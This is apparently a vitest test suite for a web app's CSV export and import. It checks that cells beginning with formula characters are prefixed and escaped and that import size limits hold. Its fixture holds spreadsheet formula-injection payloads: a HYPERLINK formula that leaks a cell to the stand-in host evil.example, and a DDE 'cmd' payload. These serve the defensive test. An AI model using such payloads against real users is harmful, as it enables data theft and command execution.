import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type TestAgent from 'supertest/lib/agent.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';

let t: TestApp;
let admin: { agent: TestAgent; csrf: string };
beforeAll(async () => {
  t = await createTestApp({ config: { importMaxRows: 50, importMaxBytes: 20_000 } });
  admin = await t.login('admin');
});
afterAll(async () => {
  await t.close();
});

const text = (agent: TestAgent, url: string) =>
  agent
    .get(url)
    .buffer(true)
    .parse((r, cb) => {
      let d = '';
      r.setEncoding('utf8');
      r.on('data', (c) => {
        d += c;
      });
      r.on('end', () => cb(null, d));
    });
const importCsv = (kind: string, csv: string, dry = false) =>
  admin.agent
    .post(`/api/import/${kind}${dry ? '?dry_run=1' : ''}`)
    .set('X-CSRF-Token', admin.csrf)
    .set('Content-Type', 'text/csv')
    .send(csv);

const FORMULAS = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")',
  address: "+cmd|' /C calc'!A0",
  notes: '@SUM(1)',
  accessibility_notes: '-1+1',
};

describe('CSV formula injection', () => {
  it("when text cells begin with = + - @, then the export prefixes them with ' and the import restores them unchanged", async () => {
    const site = (await admin.agent.get('/api/sites')).body.find((s: { name: string }) => s.name === 'Kornhausplatz 4/6');
    const patched = await admin.agent
      .patch(`/api/sites/${site.id}`)
      .set('X-CSRF-Token', admin.csrf)
      .send({ ...FORMULAS, version: site.version });
    expect(patched.status).toBe(200);

    const csv = (await text(admin.agent, '/api/export/sites.csv')).body as string;
    const rows = parse(csv, { columns: true, bom: true, delimiter: ';' }) as Record<string, string>[];
    const row = rows.find((r) => r.id === String(site.id))!;
    for (const [k, v] of Object.entries(FORMULAS)) expect(row[k]).toBe(`'${v}`);
    // no cell of the whole file starts with a formula character
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    // numbers stay numbers (a negative number would be written as such)
    expect(row.lat).toMatch(/^48,\d+$/);
    const state = (await text(admin.agent, '/api/export/state.csv?date=2026-11-24')).body as string;
    expect(state).toContain(`'=HYPERLINK`);
    expect(state).not.toMatch(/;=HYPERLINK/);

    // round trip: re-importing the export changes nothing but versions
    const again = await importCsv('sites', csv);
    expect(again.status).toBe(201);
    const after = (await admin.agent.get(`/api/sites/${site.id}`)).body;
    expect(after).toMatchObject(FORMULAS);
  });

  it('an apostrophe that does not guard a formula is kept', async () => {
    const dry = await importCsv('sites', "name;lat;lon;capacity;notes\r\n'Ulmer Spatz';48,4;9,99;3;'s Haus\r\n", true);
    expect(dry.status).toBe(200);
    expect(dry.body.inserted).toBe(1);
    const real = await importCsv('sites', "name;lat;lon;capacity;notes\r\nKlammer Haus;48,4;9,99;3;'=1+1\r\n");
    expect(real.status).toBe(201);
    expect((await admin.agent.get(`/api/sites/${real.body.ids[0]}`)).body.notes).toBe('=1+1');
  });
});

describe('CSV import bounds', () => {
  const sites = (n: number) => ['name;lat;lon;capacity', ...Array.from({ length: n }, (_, i) => `Haus ${i};48,4;9,99;3`)].join('\n');

  it('when a file has more rows than IMPORT_MAX_ROWS, then 422 IMPORT_TOO_LARGE and nothing is written', async () => {
    const before = (await admin.agent.get('/api/sites')).body.length;
    expect((await importCsv('sites', sites(50), true)).status).toBe(200);
    const res = await importCsv('sites', sites(51));
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('IMPORT_TOO_LARGE');
    expect(res.body.error.max_rows).toBe(50);
    expect((await admin.agent.get('/api/sites')).body.length).toBe(before);
  });

  it('when a file is larger than the byte limit, then 413 IMPORT_TOO_LARGE, and the app answers the next request', async () => {
    const big = `name;lat;lon;capacity;notes\n${'x;48,4;9,99;3;'.padEnd(30_000, 'y')}\n`;
    const res = await importCsv('sites', big, true);
    expect(res.status).toBe(413);
    expect(res.body.error.code).toBe('IMPORT_TOO_LARGE');
    expect((await admin.agent.get('/api/session')).status).toBe(200);
  });

  it('when the body is empty or unreadable, then 400 or 422 as before', async () => {
    expect((await importCsv('sites', '')).status).toBe(400);
    const broken = await importCsv('sites', 'name;lat\n"unclosed;1\n');
    expect(broken.status).toBe(422);
    expect(broken.body.error.code).toBe('IMPORT_FAILED');
  });
});
